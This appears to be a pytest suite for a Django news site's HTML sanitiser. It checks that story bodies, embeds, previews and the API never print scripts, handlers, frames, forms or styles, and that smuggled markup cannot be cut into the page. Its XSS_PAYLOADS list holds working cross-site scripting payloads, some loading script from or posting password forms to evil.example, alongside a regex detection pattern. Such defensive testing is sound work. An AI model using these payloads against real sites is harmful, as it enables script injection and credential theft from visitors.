"""No script, handler, frame, form or style in a story body survives to the page."""

import re
from html import escape

import pytest
from django.urls import reverse

from articles import html
from articles.html import (
    sanitise_body,
    split_blocks,
)
from articles.models import Article, Embed
from tests.admin_helpers import admin_url, as_user, form_data, make_staff
from tests.helpers import make_article, make_draft, make_embed
from tests.html_helpers import (
    HIDDEN,
    SEPARATORS,
    Markup,
    body_may_print,
    in_story_body,
    is_whole,
)

pytestmark = pytest.mark.django_db

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<p onclick="alert(1)">click</p>',
    '<p ONMOUSEOVER="alert(1)">hover</p>',
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="java&#09;script:alert(1)">tab entity</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">math</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<p><a href="https://ok.example" onfocus="alert(1)" autofocus>ok</a></p>',
]
DANGER = re.compile(
    r"<\s*(script|svg|math|iframe|form|input|button|style|object|embed|base|meta|"
    r"link|img|video|source|details|noscript)\b|\son\w+\s*=|javascript:|vbscript:|"
    r"data:text|style\s*=",
    re.IGNORECASE,
)


def story_body(response):
    content = response.content.decode()
    match = re.search(
        r'<div class="story__body">(.*?)</div>\s*(<p class="story__attr|<section|<nav|</article>)',
        content,
        re.S,
    )
    assert match, "the story body is on the page"
    return match.group(1)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_sanitising(payload):
    assert not DANGER.search(sanitise_body(f"<p>Before</p>{payload}<p>After</p>"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_an_admin_save_or_the_page(client, payload):
    story = make_article()
    as_user(client, make_staff("Editor"))
    url = admin_url(Article, "change", story.pk)
    body = f"<p>Before</p>{payload}<p>After</p>"
    response = client.post(url, form_data(client.get(url), "article_form", body=body))
    assert response.status_code == 302
    story.refresh_from_db()
    assert not DANGER.search(story.body)
    assert "After" in story.body
    assert not DANGER.search(story_body(client.get(story.get_absolute_url())))


def test_it_sanitises_on_every_save_not_only_in_the_admin():
    story = make_article(body='<p onclick="x()">Hi</p><script>alert(1)</script>')
    story.refresh_from_db()
    assert story.body == "<p>Hi</p>"


def test_it_sanitises_again_at_render(client):
    story = make_article()
    # Written behind the model's back, as an old import or a bad migration might.
    hostile = "".join(XSS_PAYLOADS)
    Article.objects.filter(pk=story.pk).update(body=f"<p>Kept</p>{hostile}")
    body = story_body(client.get(story.get_absolute_url()))
    assert "Kept" in body
    assert not DANGER.search(body)
    preview = story_body(client.get(story.get_preview_url()))
    assert not DANGER.search(preview)


def test_it_sanitises_embeds_again_at_render(client):
    Embed.objects.create(
        slug="post", url="https://x.example/1", author_name="A", text="<p>Hi</p>"
    )
    Embed.objects.filter(slug="post").update(
        text='<p>Hi</p><script>alert(1)</script><a href="JAVASCRIPT:alert(1)">x</a>'
    )
    story = make_article(body="<p>One.</p><p>[embed:post]</p>")
    body = story_body(client.get(story.get_absolute_url()))
    assert "<p>Hi</p>" in body
    assert not DANGER.search(body)


def test_it_keeps_the_allow_list():
    html = (
        "<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4><p><strong>Bold</strong> "
        "<em>italic</em><br>line</p><blockquote><p>Quote</p></blockquote>"
        '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>'
        "<figure><blockquote><p>Post</p></blockquote><figcaption>Who</figcaption></figure>"
        '<p><a href="mailto:desk@example.org">Mail</a></p>'
    )
    cleaned = sanitise_body(html)
    for tag in (
        "h2",
        "h3",
        "h4",
        "strong",
        "em",
        "br",
        "blockquote",
        "ul",
        "ol",
        "li",
        "figure",
        "figcaption",
    ):
        assert f"<{tag}" in cleaned, tag
    assert 'href="mailto:desk@example.org"' in cleaned


def test_it_drops_headings_the_design_does_not_use():
    assert sanitise_body("<h1>Big</h1><h5>Small</h5>") == "BigSmall"


def test_links_get_noopener():
    cleaned = sanitise_body(
        '<p><a href="https://elsewhere.example" target="_blank" rel="opener">x</a></p>'
    )
    assert cleaned == '<p><a href="https://elsewhere.example" rel="noopener">x</a></p>'


def test_a_body_prints_in_pieces_that_break_only_at_embeds_and_prompts():
    from articles.html import body_pieces, split_blocks

    body = (
        "<h2>Rally</h2><p>One.</p><p>Two.</p><p>[embed:post]</p>"
        "<blockquote><p>Quoted.</p></blockquote><p>Three.</p><p>Four.</p>"
    )
    pieces = body_pieces(split_blocks(body), prompt_paragraphs={2, 3})
    assert [(p.html, p.embed_slug, p.prompt_paragraph) for p in pieces] == [
        ("<h2>Rally</h2><p>One.</p><p>Two.</p>", "", 2),
        ("", "post", None),
        # The embed is not a paragraph: "Three." is the third.
        ("<blockquote><p>Quoted.</p></blockquote><p>Three.</p>", "", 3),
        ("<p>Four.</p>", "", None),
    ]
    assert "".join(p.html for p in body_pieces(split_blocks(body))) == body.replace(
        "<p>[embed:post]</p>", ""
    )


def smuggled(separator, hidden, attribute):
    """A draft hiding markup in a link's attribute, with its line breaks placed so
    that offsets counted with str.splitlines() ended the first block just after
    the "<" of "</a>" and began the next just after the attribute's "&lt;"."""
    link = f'<a {attribute}="https://news.example/{separator}{escape(hidden)}">Баку</a>'
    cut = sanitise_body(link).index("</a>") + 1
    return f"<p>{separator}{link}\n{'ქ' * (cut - 4)}</p>\n    <p>{'Ы' * 80}</p>"


def assert_nothing_smuggled(markup):
    assert not [
        element
        for element in markup.elements
        if "http-equiv" in element.attrs or "evil" in element.attrs.get("src", "")
    ]


@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize("attribute", ["title", "href"])
@pytest.mark.parametrize("separator", SEPARATORS, ids=ascii)
def test_it_never_cuts_a_block_inside_a_tag(separator, attribute, hidden):
    body = smuggled(separator, attribute=attribute, hidden=hidden)
    blocks = split_blocks(body)
    printed = Markup("".join(block.html for block in blocks))
    assert_nothing_smuggled(printed)
    assert all(body_may_print(element) for element in printed.elements)
    assert [block.tag for block in blocks] == ["p", "p"]
    assert all(is_whole(block) for block in blocks)
    assert "".join(block.html for block in blocks) == "</p><p>".join(
        sanitise_body(body).split("</p>\n    <p>")
    )


def test_it_splits_at_elements_whatever_line_breaks_the_text_holds():
    body = (
        "<p>Один\u2028два\nтри</p>\n<h2>ერთი\x85ორი\x0cსამი\n</h2>"
        '<p>Bir\u2029<a href="https://news.example/" title="iki\x1c\nüç">üç</a></p>'
    )
    assert [block.html for block in split_blocks(body)] == [
        "<p>Один\u2028два\nтри</p>",
        "<h2>ერთი\x85ორი\x0cსამი\n</h2>",
        '<p>Bir\u2029<a href="https://news.example/" title="iki\x1c\nüç" '
        'rel="noopener">üç</a></p>',
    ]


@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize("separator", SEPARATORS, ids=ascii)
def test_it_prints_no_smuggled_markup_on_the_page_preview_or_api(
    client, separator, hidden
):
    body = smuggled(separator, attribute="title", hidden=hidden)
    story, draft = make_article(body=body), make_draft(body=body)
    blocks = Markup("".join(block.html for block in split_blocks(story.body)))
    for url in (story.get_absolute_url(), draft.get_preview_url()):
        response = client.get(url)
        assert response.status_code == 200
        page = Markup(response.content.decode())
        assert not page.broken
        assert_nothing_smuggled(page)
        printed = [e for e in page.elements if in_story_body(e)]
        assert [(e.tag, e.attrs) for e in printed] == [
            (e.tag, e.attrs) for e in blocks.elements
        ]
        assert all(body_may_print(element) for element in printed)
    response = client.get(reverse("articles:api-article", args=[story.slug]))
    api = Markup(response.json()["body"])
    assert not api.broken
    assert_nothing_smuggled(api)
    assert all(body_may_print(element) for element in api.elements)
    assert story.body == draft.body == sanitise_body(body)


def test_it_prints_a_body_uncut_rather_than_cut_inside_a_tag(monkeypatch, caplog):
    body = sanitise_body(smuggled("\u2028", HIDDEN[1], "title"))
    after_lt = body.index("</a>") + 1
    in_title = body.index("&lt;") + len("&lt;")
    # Spans where the line-counting splitter cut this body.
    cut = [(0, after_lt, "p"), (in_title, len(body), "p")]
    monkeypatch.setattr(html, "_top_level_spans", lambda _: cut)
    blocks = split_blocks(body)
    assert [block.html for block in blocks] == [body]
    printed = Markup(body)
    assert not printed.broken
    assert_nothing_smuggled(printed)
    assert "cut inside markup" in caplog.text


def test_a_lone_surrogate_becomes_a_replacement_character_not_an_error(client):
    # A JSON import can carry half of a UTF-16 pair; it is no character.
    story = make_article(body="<p>Bak\ud83du: \U0001f600</p>")
    assert story.body == "<p>Bak\ufffdu: \U0001f600</p>"
    embed = make_embed(text="<p>Slava \udc00Ukraini</p>")
    assert embed.text == "<p>Slava \ufffdUkraini</p>"
    assert client.get(story.get_absolute_url()).status_code == 200
